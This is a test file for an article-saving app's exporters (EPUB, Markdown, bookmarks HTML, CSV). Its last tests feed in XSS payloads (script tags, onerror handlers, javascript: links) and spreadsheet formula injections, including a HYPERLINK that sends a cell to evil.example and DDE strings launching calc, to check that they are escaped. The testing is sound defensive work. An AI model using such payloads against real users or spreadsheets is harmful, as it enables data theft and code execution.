// @vitest-environment node
// Node env: Blobs survive fake-indexeddb; jsdom gives the DOM (XMLSerializer, template) the exporters use.
import { beforeAll, describe, expect, it } from 'vitest';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { JSDOM } from 'jsdom';
import { OffprintDB } from '@/utils/storage/db';
import { exportEpub } from '@/utils/data/export/export-epub';
import {
  articleMarkdownFile,
  exportMarkdownZip,
  articleToMarkdown,
  slugify,
} from '@/utils/data/export/export-markdown';
import { articlesToBookmarksHtml, articlesToCsv } from '@/utils/data/export/export-list';
import { openZip } from '@/utils/lib/zip-reader';
import { saveArticle } from '@/utils/storage/save-article';
import { parseBookmarksHtml } from '@/utils/data/import/parse-bookmarks-html';
import Papa from 'papaparse';
import { completeHighlight } from '@/utils/highlights/complete-highlight';
import { extracted, seedLibrary } from '../../../helpers/seed-library';
import { makeRow } from '../../../helpers/make-article';
import { epubcheck } from '../../../helpers/epubcheck';
import type { Article } from '@/utils/article';

const win = new JSDOM('').window as unknown as Window & typeof globalThis;
/** A real 1×1 PNG (EPUBCheck inspects image headers). */
const PNG = Uint8Array.from(
  atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='),
  (c) => c.charCodeAt(0),
);
let db: OffprintDB;

beforeAll(async () => {
  db = new OffprintDB(`export-${crypto.randomUUID()}`);
  await seedLibrary(db, 4);
  await db.images.put({
    articleId: 1,
    url: 'https://img.example.org/1.png',
    blob: new Blob([PNG], { type: 'image/png' }),
    type: 'image/png',
    bytes: PNG.length,
    width: 1,
    height: 1,
    savedAt: 1,
  });
  const messy =
    '<p align="center">Tricky <font color="red">markup</font> &amp; entities: &lt;tag&gt; — ' +
    '“quotes”</p><center>old</center><img src="https://remote.example.com/x.webp" alt="remote ' +
    'pic"><table><tr><td colspan="2">cell</td></tr></table><a href="#frag">in-page</a><br><hr>';
  await saveArticle(await extracted(99, { title: 'Messy <markup> & “quotes”', contentHtml: messy, lang: 'fr' }), db);
  // Article 2: a highlight across its two paragraphs (never anchored yet: the export finds it), with a note.
  await db.highlights.add(
    completeHighlight({
      articleId: 2,
      quote: 'of article 2.\nSecond paragraph',
      note: 'A <note> & “more”\non two lines',
      color: 'blue',
      createdAt: 5,
    }),
  );
  await db.highlights.add(
    completeHighlight({ articleId: 2, quote: 'Not in this article at all', note: null, createdAt: 6 }),
  );
});

describe('EPUB 3 export', () => {
  it('starts with an uncompressed mimetype entry, as OCF requires', async () => {
    const blob = await exportEpub([1], 'One', { db, win });
    const bytes = new Uint8Array(await blob.arrayBuffer());
    expect(new TextDecoder().decode(bytes.slice(30, 38))).toBe('mimetype');
    expect(new DataView(bytes.buffer).getUint16(8, true)).toBe(0); // compression method: stored
    expect(new TextDecoder().decode(bytes.slice(38, 58))).toBe('application/epub+zip');
    const zip = await openZip(blob);
    expect(zip.has('OEBPS/images/a1-1.png')).toBe(true);
    expect(await zip.text('OEBPS/a1.xhtml')).toContain('src="images/a1-1.png"');
  });

  it('marks highlights in the text and lists them at the end of the chapter, with notes', async () => {
    const zip = await openZip(await exportEpub([2], 'Two', { db, win }));
    const x = await zip.text('OEBPS/a2.xhtml');
    const [h] = await db.highlights.where('articleId').equals(2).toArray();
    // Two text runs (two paragraphs), one id: the list links to the first.
    expect(x).toContain(
      `<p>Paragraph one <mark id="hl-a2-h${h.id}">of article 2.</mark></p><p><mark>Second paragraph</mark> with`,
    );
    expect(x).toMatch(
      new RegExp(
        `<section class="highlights"><h2>Highlights</h2><ol>\\s*<li><blockquote><p>of article 2\\. ` +
          `Second paragraph</p></blockquote><p class="note">A &lt;note&gt; &amp; “more”<br/>on two lines</p>` +
          `<p class="meta">blue <a href="#hl-a2-h${h.id}">`,
      ),
    );
    expect(x).toMatch(
      new RegExp(
        /Not in this article at all<\/p><\/blockquote><p class="meta">yellow /.source +
          /<span class="meta">\(not found in the current text\)/.source,
      ),
    );
  });

  it('passes EPUBCheck for a view of several articles (images, messy markup, another language)', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'offprint-epub-'));
    for (const [name, ids] of [['view', [1, 2, 3, 4, 5]]] as const) {
      // Articles 1, 2 and 4 have highlights (marked in the text, listed at the end).
      // one run: Java starts slowly
      const file = path.join(dir, `${name}.epub`);
      fs.writeFileSync(
        file,
        new Uint8Array(
          await (await exportEpub([...ids], `Offprint: ${name}`, { db, win, now: 1_780_000_000_000 })).arrayBuffer(),
        ),
      );
      const res = epubcheck(file);
      expect(res.report, `epubcheck ${name}.epub`).toMatch(/No errors or warnings detected/);
      expect(res.status).toBe(0);
    }
    fs.rmSync(dir, { recursive: true, force: true });
  }, 120_000);
});

describe('Markdown export', () => {
  it('writes front matter and Markdown, with stored images alongside and links rewritten to them', async () => {
    const zip = await openZip(await exportMarkdownZip([1, 2], { db, win }));
    const md = await zip.text('article-number-1.md');
    expect(md).toMatch(
      /^---\ntitle: "Article number 1"\nurl: "https:\/\/news.example.org\/story\/1\?utm_source=feed"\n/,
    );
    expect(md).toContain('tags: ["news", "t1"]');
    expect(md).toContain('[a link](https://example.org/1)');
    expect(md).toContain('![figure 1](article-number-1/3.png)');
    expect(Array.from(await zip.bytes('article-number-1/3.png'))).toEqual(Array.from(PNG));
    expect(zip.has('article-number-2.md')).toBe(true);
  });
  it('names the page kind in the front matter when it is not an article', () => {
    const md = articleToMarkdown(makeRow(1, { pageKind: 'documentation' }), '<p>Text</p>', new Map(), win);
    expect(md).toContain('\nkind: documentation\n');
    expect(articleToMarkdown(makeRow(2), '<p>Text</p>', new Map(), win)).not.toContain('kind:');
  });
  it('slugifies titles in any script', () => {
    expect(slugify('Київ: «Новини» 2026!')).toBe('киів-новини-2026'); // marks dropped, as for é → e
    expect(slugify('Café déjà vu')).toBe('cafe-deja-vu');
    expect(slugify('???')).toBe('article');
  });
  it('converts one article on its own', async () => {
    const a = (await db.articles.get(2))!;
    expect(articleToMarkdown(a, '<h2>Sub</h2><p>x <em>y</em></p>', new Map(), win)).toContain('## Sub\n\nx _y_');
  });
  it('downloads one article as a .md file, or as a .zip with its images when it has stored ones', async () => {
    const [md, mdName] = await articleMarkdownFile((await db.articles.get(2))!, { db, win });
    expect(mdName).toBe('article-number-2.md');
    expect(md.type).toBe('text/markdown');
    expect(await md.text()).toMatch(/^---\ntitle: "Article number 2"\n[\s\S]*\[a link\]\(https:\/\/example.org\/2\)/);
    const [zipped, zipName] = await articleMarkdownFile((await db.articles.get(1))!, { db, win });
    expect(zipName).toBe('article-number-1.zip');
    const zip = await openZip(zipped);
    expect(await zip.text('article-number-1.md')).toContain('![figure 1](article-number-1/3.png)');
    expect(zip.has('article-number-1/1.png')).toBe(true);
  });
  it("the one-article .md ends with the article's live highlights and notes, not its deleted ones", async () => {
    const base = { articleId: 2, prefix: '', suffix: '', position: null, anchor: null } as const;
    await db.highlights.bulkAdd([
      completeHighlight({ ...base, quote: 'Paragraph one of article 2.', note: 'Worth a second read', createdAt: 5 }),
      completeHighlight({ ...base, quote: 'A removed quote', note: null, createdAt: 6, deleted: 1 }),
    ]);
    const md = await (await articleMarkdownFile((await db.articles.get(2))!, { db, win }))[0].text();
    const section = md.slice(md.indexOf('\n## Highlights\n'));
    expect(section).toMatch(/^\n## Highlights\n\n> /);
    expect(section).toContain('\n> Paragraph one of article 2.\n\nWorth a second read\n');
    expect(md).not.toContain('A removed quote');
  });
});

describe('Markdown export of hostile content', () => {
  const article = (over: Partial<Article> = {}) => ({ ...makeRow(7), ...over });
  it('escapes text that looks like HTML: &lt;script&gt; in the article stays text, never a raw tag', () => {
    const md = articleToMarkdown(
      article(),
      '<p>Write &lt;script&gt;alert(1)&lt;/script&gt; to test.</p>',
      new Map(),
      win,
    );
    expect(md).not.toMatch(/(^|[^\\])<script/i); // only the escaped form, which Markdown shows as text
    expect(md).toContain('\\<script\\>alert(1)\\</script\\>');
  });
  it('flattens a title with line breaks into one escaped heading line (no injected markup or front matter)', () => {
    const md = articleToMarkdown(
      article({ title: 'Nice title\n---\n<img src=x onerror=alert(1)>\n# Fake' }),
      '<p>Body</p>',
      new Map(),
      win,
    );
    const heading = md.split('\n').find((l) => l.startsWith('# '))!;
    expect(heading).toBe('# Nice title --- \\<img src=x onerror=alert(1)\\> # Fake');
    expect(md.split('\n').filter((l) => l === '---')).toHaveLength(2); // only the front matter's own
    expect(md).not.toMatch(/^<img/m);
  });
  it('sanitizes before converting: script URLs and handlers never reach the .md', () => {
    const md = articleToMarkdown(
      article(),
      '<p><a href="javascript:alert(1)">click</a> and <a href="https://ok.example/">fine</a></p>' +
        '<img src="x" onerror="alert(1)"><script>alert(2)</script>',
      new Map(),
      win,
    );
    expect(md).not.toMatch(/javascript:|onerror|alert\(2\)/);
    expect(md).toContain('click');
    expect(md).toContain('[fine](https://ok.example/)');
  });
});

describe('bookmarks and CSV of the list', () => {
  it('writes a bookmarks file that our own importer (and browsers) read back with tags', async () => {
    const list = await db.articles.toArray();
    const html = articlesToBookmarksHtml(list);
    const back = new JSDOM(html).window;
    const g = globalThis as unknown as { DOMParser: unknown };
    const old = g.DOMParser;
    g.DOMParser = back.DOMParser;
    try {
      const parsed = parseBookmarksHtml(html);
      expect(parsed.items.map((i) => i.url).sort()).toEqual(list.map((a) => a.originalUrl).sort());
      expect(parsed.items.find((i) => i.url.endsWith('/1?utm_source=feed'))!.tags).toEqual([
        'offprint: archive', // tags are stored in lower case
        'news',
        't1',
      ]);
    } finally {
      g.DOMParser = old;
    }
  });
  it('writes CSV with a header and one row per article (commas and quotes escaped)', async () => {
    const list = await db.articles.toArray();
    const rows = Papa.parse<Record<string, string>>(articlesToCsv(list), { header: true }).data;
    expect(rows).toHaveLength(list.length);
    expect(rows.find((r) => r.title.startsWith('Messy'))).toMatchObject({
      title: 'Messy <markup> & “quotes”',
      status: 'unread',
    });
    expect(rows[0]).toMatchObject({ tags: 'news|t1', progress: '0.42', favorite: 'yes' });
  });
  it('says each row’s page kind (an article when it was saved before page kinds)', () => {
    const csv = articlesToCsv([makeRow(1, { pageKind: 'thread' }), makeRow(2), makeRow(3, { kind: 'link' })]);
    const rows = Papa.parse<Record<string, string>>(csv, { header: true }).data;
    expect(rows.map((r) => r.page_kind)).toEqual(['thread', 'article', '']);
  });
  it('escapes formulae: a title, byline or tag from a saved page never becomes a live spreadsheet cell', () => {
    const row = (over: Partial<Article>) => ({ ...makeRow(9), ...over });
    const csv = articlesToCsv([
      row({ title: '=HYPERLINK("https://evil.example/?"&A1,"Click")', byline: "@SUM(1+1)*cmd|' /C calc'!A0" }),
      row({ title: "+cmd|' /C notepad'!A0", tags: ['-2+3', 'fine'], byline: '\t=1+1' }),
    ]);
    const rows = Papa.parse<Record<string, string>>(csv, { header: true }).data;
    // Every cell that a spreadsheet would evaluate starts with a quote mark instead (papaparse escapeFormulae).
    for (const cell of rows.flatMap((r) => [r.title, r.byline, r.tags])) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[0].title).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Click")');
    expect(rows[1].tags).toBe("'-2+3|fine");
    // Plain values are untouched.
    expect(rows[0].url).toBe('https://example.com/9');
  });
});
